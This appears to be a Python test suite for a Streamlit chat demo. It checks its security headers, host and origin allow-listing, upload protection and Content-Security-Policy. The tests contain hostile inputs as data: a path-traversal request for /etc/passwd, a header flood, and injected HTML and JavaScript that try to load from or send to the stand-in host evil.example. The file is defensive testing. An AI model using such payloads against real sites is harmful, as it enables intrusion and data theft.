"""What the running demo sends and refuses, over plain sockets and in a browser."""

from __future__ import annotations

import http.client
import re
import socket
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import psutil
from playwright.sync_api import Browser, Page, expect

from support.demo_browser import SLOW, Demo, answered, wait_until_idle
from support.demo_browser import ask as ask_query

Open = Callable[..., Page]
KEY = "dGhlIHNhbXBsZSBub25jZQ=="
ROOT = Path(__file__).resolve().parents[2]


class PageAlone(Demo):
    program = ("streamlit", "run", str(ROOT / "pages" / "chat.py"), "--server.headless", "true", "--server.port")


def ask(demo: Demo, method: str, path: str, **headers: str) -> http.client.HTTPResponse:
    """A request with just these headers; `_` in a name stands for `-`."""
    connection = http.client.HTTPConnection("127.0.0.1", demo.port, timeout=30)
    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for name, value in headers.items():
        connection.putheader(name.replace("_", "-"), value)
    connection.endheaders()
    return connection.getresponse()


def handshake(demo: Demo, host: str | None, origin: str | None) -> int:
    """The status of a websocket's opening: 101 when it is taken."""
    lines = [
        *("GET /_stcore/stream HTTP/1.1", "Connection: Upgrade", "Upgrade: websocket"),
        *("Sec-WebSocket-Version: 13", f"Sec-WebSocket-Key: {KEY}"),
        *([f"Host: {host}"] if host is not None else []),
        *([f"Origin: {origin}"] if origin is not None else []),
    ]
    with socket.create_connection(("127.0.0.1", demo.port), timeout=30) as connection:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
        return int(connection.recv(100).split()[1])


ANSWERS = {
    ("GET", "/"): 200,
    ("GET", "/compare?q=Hello"): 200,
    ("GET", "/static/nothing.js"): 200,  # Streamlit's page, as for every path that it does not know
    ("GET", "/_stcore/health"): 200,
    ("GET", "/media/nothing.png"): 404,
    ("DELETE", "/_stcore/upload_file/session/file"): 403,
    ("GET", "/..%2f..%2fetc/passwd"): 400,
}


def test_everything_is_sent_with_the_headers(any_server: Demo) -> None:
    host = f"localhost:{any_server.port}"
    page = ask(any_server, "GET", "/", Host=host).read().decode()
    script = re.search(r'src="\.(/static/js/[^"]+)"', page)
    assert script is not None
    for (method, path), status in {**ANSWERS, ("GET", script[1]): 200}.items():
        answer = ask(any_server, method, path, Host=host)
        assert answer.status == status, path
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["X-DNS-Prefetch-Control"] == "off"
        policy = answer.headers["Content-Security-Policy"]
        assert "script-src 'self' 'sha256-" in policy
        for directive in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'self'"):
            assert f"{directive};" in f"{policy};"
        assert "http:" not in re.sub(r"frame-ancestors [^;]*", "", policy)


def test_only_listed_hosts_are_answered(any_server: Demo) -> None:
    here = f"localhost:{any_server.port}"
    for host, status in {
        here: 200,
        "friend.example": 200,  # --allowed-host
        socket.gethostname(): 200,
        "evil.example": 403,
        "": 400,
    }.items():
        for path in ("/", "/_stcore/health"):
            assert ask(any_server, "GET", path, Host=host).status == status, host
        assert handshake(any_server, host, f"http://{host}") == (101 if status == 200 else status)
    refusal = ask(any_server, "GET", "/", Host="my.example")
    assert refusal.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert "zooter demo --allowed-host my.example\n" in refusal.read().decode()
    for host, origin, status in (
        ("friend.example", "https://friend.example", 101),  # behind a proxy that ends TLS
        ("evil.example", "http://evil.example", 403),  # DNS rebinding
        (here, "http://evil.example", 403),
        (here, None, 403),
        (None, None, 400),
    ):
        assert handshake(any_server, host, origin) == status, (host, origin)


def test_the_demo_cuts_off_headers_without_end(any_server: Demo) -> None:
    before = psutil.Process(any_server.process.pid).memory_info().rss
    for first, part in (
        (b"GET / HTTP/1.1\r\n", b"x: " + b"x" * 1000 + b"\r\n"),
        (b"GET / HTTP/1.1\r\nx: ", b"x" * 65536),
    ):
        taken = 0
        with socket.create_connection(("127.0.0.1", any_server.port), timeout=30) as connection:
            connection.sendall(first)
            with suppress(ConnectionError):
                while taken < 64 << 20:
                    connection.sendall(part)
                    taken += len(part)
        assert taken < 16 << 20  # what buffers hold
    assert psutil.Process(any_server.process.pid).memory_info().rss - before < 64 << 20
    assert ask(any_server, "GET", "/_stcore/health", Host="localhost").status == 200


def test_uploads_without_the_pages_token_and_other_origins_are_refused(any_server: Demo) -> None:
    """Though this demo's environment turns Streamlit's own protection off."""
    host, path = f"localhost:{any_server.port}", "/_stcore/upload_file/session/file"
    answer = ask(any_server, "PUT", path, Host=host, Origin=f"http://{host}")
    assert answer.status == 403
    assert "XSRF" in answer.read().decode()
    foreign = ask(any_server, "PUT", path, Host=host, Origin="http://localhost:1")
    assert "own pages only" in foreign.read().decode()
    health = ask(any_server, "GET", "/_stcore/health", Host=host, Origin="http://evil.example")
    assert health.headers["Access-Control-Allow-Origin"] is None


def test_a_page_that_streamlit_runs_alone_shows_one_sentence(open_tab: Open, tmp_path: Path) -> None:
    """Its server has no guard."""
    demo = PageAlone(tmp_path / "history.db")
    try:
        page = open_tab(demo.address)
        expect(page.get_by_text("Start the demo with zooter demo")).to_be_visible(timeout=SLOW)
        wait_until_idle(page)
        expect(page.get_by_role("button", name="New conversation")).to_have_count(0)
        page.close()
    finally:
        demo.stop()


# In the browser. `open_tab` fails on errors in the console, to which a violation of the policy belongs.


def test_what_streamlit_run_has_started_answers(open_tab: Open, by_streamlit: Demo) -> None:
    page = open_tab(by_streamlit.address)
    expect(page.get_by_text("Try one of these")).to_be_visible(timeout=SLOW)
    ask_query(page, "Hello")
    answered(page)
    page.goto(f"{by_streamlit.address}/models")
    expect(page.get_by_text("The models that answer here")).to_be_visible(timeout=SLOW)


def test_what_slips_into_the_page_loads_nothing_and_runs_nothing(browser: Browser, server: Demo) -> None:
    page = browser.new_page()
    left: list[str] = []
    page.route("http://evil.example/**", lambda route: (left.append(route.request.url), route.abort())[-1])
    page.goto(server.address)
    expect(page.get_by_text("Try one of these")).to_be_visible(timeout=SLOW)
    stopped = page.evaluate(
        """async () => {
            const stopped = [];
            document.addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
            const slip = html => document.body.appendChild(document.createRange().createContextualFragment(html));
            slip('<img src="http://evil.example/a.png">');
            slip('<style>@import "http://evil.example/a.css"; body {background: url(http://evil.example/b.png)}</style>');
            slip('<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object>');
            slip('<video src="http://evil.example/a.mp4"></video>');
            slip('<script>window.ran = true</script><script src="http://evil.example/a.js"></script>');
            slip('<form action="http://evil.example/"><button id="go"></button></form>');
            document.getElementById('go').click();
            await fetch('http://evil.example/').catch(() => {});
            navigator.sendBeacon('http://evil.example/', 'a');
            new WebSocket('ws://evil.example/').onerror = () => {};
            for (let n = 0; n < 200 && new Set(stopped).size < 8; n++)
                await new Promise(done => setTimeout(done, 100));
            return [...new Set(stopped)].sort();
        }"""
    )
    assert stopped == [
        *("connect-src", "form-action", "frame-src", "img-src", "media-src", "object-src"),
        *("script-src-elem", "style-src-elem"),
    ]
    assert left == []
    assert page.evaluate("window.ran") is None
    page.close()


def test_only_a_site_that_is_named_shows_the_demo_in_a_frame(
    browser: Browser, server: Demo, sites: tuple[str, str]
) -> None:
    friend, other = sites
    page = browser.new_page()
    page.goto(f"{friend}/?{server.address}/")
    inside = page.frame_locator("iframe")
    expect(inside.get_by_text("A small router reads your query")).to_be_visible(timeout=SLOW)
    with page.expect_event("requestfailed", lambda request: request.url.startswith(server.address), timeout=SLOW):
        page.goto(f"{other}/?{server.address}/")
    expect(inside.get_by_text("A small router reads your query")).to_have_count(0)
    assert not any("localhost" in frame.url for frame in page.frames[1:])
    page.close()
